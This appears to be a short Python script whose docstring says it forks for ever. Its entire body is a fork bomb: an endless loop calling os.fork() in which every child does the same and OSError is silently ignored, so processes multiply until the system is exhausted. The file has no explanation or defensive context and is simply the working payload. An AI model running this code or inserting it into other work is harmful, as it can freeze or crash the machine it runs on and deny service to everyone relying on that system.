"""Forks for ever, and so does every child."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
